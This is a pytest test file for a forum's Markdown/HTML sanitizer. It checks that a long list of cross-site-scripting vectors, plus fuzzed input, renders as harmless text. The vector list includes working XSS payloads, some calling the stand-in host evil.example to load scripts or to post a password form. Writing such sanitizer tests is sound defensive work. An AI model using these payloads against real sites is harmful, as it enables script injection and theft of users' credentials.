"""Attack lists, and anything at all (security.md 3)."""

import bleach
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from forum.content import ContentRefused, mentioned, render, trusted
from forum.content.cleaning import TAGS, clean
from tests.content.page import ATTRIBUTES, assert_harmless, elements, text

pytestmark = pytest.mark.pure

VECTORS = [
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x>",
    "<math><mtext><table><mglyph><style><img src onerror=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=data:text/html,x>",
    "<embed src=x>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example>",
    "<style>@import '//evil.example'</style>",
    "<form action=//evil.example><input name=password>",
    "<details open ontoggle=alert(1)>",
    "<body onload=alert(1)>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href='jav&#x09;ascript:alert(1)'>x</a>",
    "<b style=\"position:fixed\">x</b>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<!--><script>alert(1)</script>-->",
    "<?php echo 1 ?>",
    "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "[a](javascript:alert(1))",
    "[a](<javascript:alert(1)>)",
    "[a](javascript&colon;alert(1))",
    "[a](https://example.org/\"onmouseover=\"alert(1))",
    "[a](https://example.org 'x\" onmouseover=alert(1) x=\"')",
    "[<script>](https://example.org)",
    "[a](https://example.org/<script>alert(1)</script>)",
    "![a](https://example.org/x.png\"onerror=\"alert(1))",
    "![\"onerror=\"alert(1)](https://example.org/x.png)",
    "![![x](javascript:alert(1))](javascript:alert(1))",
    "https://example.org/\"><script>alert(1)</script>",
    "https://example.org/'onclick='alert(1)",
    "<https://example.org/\"onclick=\"alert(1)>",
    "```<script>\nalert(1)\n```",
    "```\" onclick=\"alert(1)\nx\n```",
    "`<script>alert(1)</script>`",
    "    <script>alert(1)</script>",
    "@[<img src=x onerror=alert(1)>]",
    "#<script>alert(1)</script>",
    "| <script> |\n|---|\n| <img src=x onerror=alert(1)> |",
    "[x]: javascript:alert(1) \"t\"\n\n[x] [x][x]",
    "<<script>script>alert(1)<</script>/script>",
    "<scr\x00ipt>alert(1)</scr\x00ipt>".replace("\x00", "\x01"),
    "\u2028<script>alert(1)</script>",
    "＜script＞alert(1)＜/script＞",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "{{ 7*7 }} {% load x %} ${7*7}",
    "[a](https://example.org){onclick=alert(1)}",
    "*<b>*</b>",
    "<a\nhref='javascript:alert(1)'>x</a>",
]  # fmt: skip


@pytest.mark.parametrize("vector", VECTORS)
@pytest.mark.parametrize("around", ["{}", "نص {} نص", "> {}", "- {}", "**{}**", "[{}](https://example.org)", "# {}"])
def test_an_attack_is_only_text(vector, around):
    html = render(around.format(vector), language="ar")
    assert_harmless(html)
    assert clean(html) == html


@pytest.mark.parametrize("vector", VECTORS)
def test_a_second_cleaner_with_its_own_list_changes_nothing(vector):
    html = render(vector, language="ar")
    second = bleach.clean(html, tags=TAGS, attributes={"*": list(ATTRIBUTES)}, protocols={"http", "https", "mailto"})
    assert second == html


MARKUP = st.sampled_from(
    [
        "[",
        "](",
        ")",
        "*",
        "**",
        "_",
        "`",
        "```\n",
        "> ",
        "- ",
        "١. ",
        "1. ",
        "\n",
        "\n\n",
        "|",
        "\n|-|-|\n",
        "<",
        ">",
        "&",
        "&#x",
        ";",
        "https://",
        "javascript:",
        "data:",
        "example.org",
        "@[",
        "]",
        "!",
        "#",
        "~~",
        "\\",
        '"',
        "'",
        " ",
        "\t",
        "؟",
        "،",
        "نص",
        "word",
        "<script>",
        "onclick=",
        "\u202e",
        "\u2067",
        "\u2069",
        "\u200f",
        "\u200b",
        "%E2%80%AE",
        "١٢٣",
        "-5%",
        "C++",
        "mailto:",
        "a@b.org",
    ]
)


@settings(max_examples=400, deadline=None)
@given(st.one_of(st.text(max_size=200), st.lists(st.one_of(MARKUP, st.text(max_size=3)), max_size=40).map("".join)))
def test_whatever_is_written_only_allowed_elements_reach_the_page(markdown):
    try:
        html = render(markdown, language="ar")
    except ContentRefused:
        return
    assert_harmless(html)
    assert clean(html) == html
    prose = html.split("<code")[0]
    assert not set(prose) & set("\u202a\u202b\u202c\u202d\u202e")
    assert_isolates_are_closed(html)
    mentioned(markdown)


def assert_isolates_are_closed(html):
    for block in elements(html):
        if block.tag in ("p", "li", "td", "th", "h3", "h4", "h5", "h6") and "data-control" not in html:
            opened = sum(block.text.count(sign) for sign in "\u2066\u2067\u2068")
            assert opened == block.text.count("\u2069")


WORDS = st.characters(
    categories=("L", "M", "N", "Zs"), include_characters="،؛؟«»…:;", exclude_characters="\u3164\u1160"
)


@settings(max_examples=200, deadline=None)
@given(st.text(alphabet=WORDS, max_size=100))
def test_plain_words_come_through_whole(words):
    shown = text(render(f"ن {words} ن", language="ar"))
    assert shown.split() == f"ن {words} ن".split()


def test_stored_html_is_trusted_in_one_place():
    assert trusted("<p>x</p>").__html__() == "<p>x</p>"
